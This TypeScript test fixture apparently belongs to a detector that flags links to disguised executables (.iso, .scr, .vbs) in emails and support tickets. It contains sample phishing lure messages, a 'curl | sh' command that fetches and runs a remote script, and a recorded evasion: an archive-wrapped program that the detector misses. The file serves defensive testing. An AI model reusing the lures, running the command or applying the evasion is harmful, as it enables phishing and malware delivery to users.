import type { Examples } from "@doorward/core";
import { makeConversation } from "../example-conversations.ts";
import { makeMail } from "../example-mail.ts";

/** Programs behind links that are said to be documents, and documents. */
export const examples: Examples = {
  hits: [
    {
      name: "a bill as a disk image",
      files: {
        "mail.eml": makeMail({
          subject: "PO 221",
          text: "Please see the purchase order: https://files.stranger.example/PO221.iso",
        }),
      },
    },
    {
      name: "pictures as a program",
      files: {
        "ticket.json": makeConversation(
          "ticket",
          "My withdrawal is stuck, here are my screenshots: https://files.stranger.example/screen.scr",
        ),
      },
    },
    {
      name: "a complaint as a script",
      files: {
        "mail.eml": makeMail({
          subject: "Complaint",
          text: "We received a copyright infringement claim, the evidence: https://files.stranger.example/evidence.vbs",
        }),
      },
    },
  ],
  misses: [
    {
      name: "a bill as a document",
      why: "A document is what a bill is.",
      files: {
        "mail.eml": makeMail({ subject: "Invoice", text: "Your invoice: https://bills.stranger.example/4711.pdf" }),
      },
    },
    {
      name: "a note with a command in it",
      why: "The address stands in a command, which is no link to follow.",
      files: {
        "mail.eml": makeMail({
          subject: "Notes",
          text: "The invoice of March was paid twice, we will get one of them back.\n\ncurl -fsSL https://get.stranger.example/install.sh | sh\n",
        }),
      },
    },
    {
      name: "a maker's installer",
      why: "It is said to be what it is.",
      files: {
        "mail.eml": makeMail({ subject: "Release", text: "Version 4 is out: https://tool.stranger.example/setup.exe" }),
      },
    },
    {
      name: "a picture behind a link",
      why: "It is a picture.",
      files: {
        "ticket.json": makeConversation(
          "ticket",
          "My withdrawal is stuck, here is the screenshot: https://pictures.stranger.example/a.png",
        ),
      },
    },
  ],
  evasions: [
    {
      name: "the program inside an archive",
      caughtBy: "nothing",
      files: {
        "mail.eml": makeMail({
          subject: "PO 221",
          text: "Please see the purchase order: https://files.stranger.example/PO221.zip",
        }),
      },
    },
  ],
};
